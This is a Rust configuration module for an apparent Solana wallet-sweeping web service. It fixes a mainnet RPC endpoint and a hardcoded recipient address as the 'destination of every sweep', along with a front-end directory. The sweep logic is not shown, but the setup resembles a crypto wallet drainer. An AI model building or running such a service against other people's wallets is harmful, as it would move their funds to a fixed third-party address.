//! Process-wide sweep configuration.
//!
//! Everything here is fixed when the process starts and shared read-only by
//! every request.

use solana_sdk::commitment_config::CommitmentConfig;
use solana_sdk::pubkey::Pubkey;
use std::path::PathBuf;
use sweep_wallet_core::SAFETY_BUFFER_LAMPORTS;

/// Ledger node queried for balances, blockhashes, fees and rent.
pub const DEFAULT_RPC_URL: &str = "https://api.mainnet-beta.solana.com";

/// Destination of every sweep: `9i8bausot6icWYDG2yvC6j6CtuHRb5wmuYpA4KjERgxD`.
pub const DEFAULT_RECIPIENT: Pubkey = Pubkey::new_from_array([
    129, 102, 229, 209, 207, 211, 240, 125, 20, 232, 237, 64, 177, 139, 84, 226, 251, 92, 153,
    143, 189, 2, 199, 166, 163, 88, 97, 248, 34, 173, 81, 206,
]);

#[derive(Clone, Debug)]
pub struct SweepConfig {
    pub rpc_url: String,
    pub recipient: Pubkey,
    /// Lamports left in the wallet on top of fee and rent minimum.
    pub safety_buffer: u64,
    /// Commitment level for ledger queries.
    pub commitment: CommitmentConfig,
    /// Directory holding the front-end `index.html`.
    pub static_dir: PathBuf,
}

impl SweepConfig {
    pub fn index_file(&self) -> PathBuf {
        self.static_dir.join("index.html")
    }
}

impl Default for SweepConfig {
    fn default() -> Self {
        Self {
            rpc_url: DEFAULT_RPC_URL.to_string(),
            recipient: DEFAULT_RECIPIENT,
            safety_buffer: SAFETY_BUFFER_LAMPORTS,
            commitment: CommitmentConfig::finalized(),
            static_dir: PathBuf::from("static"),
        }
    }
}
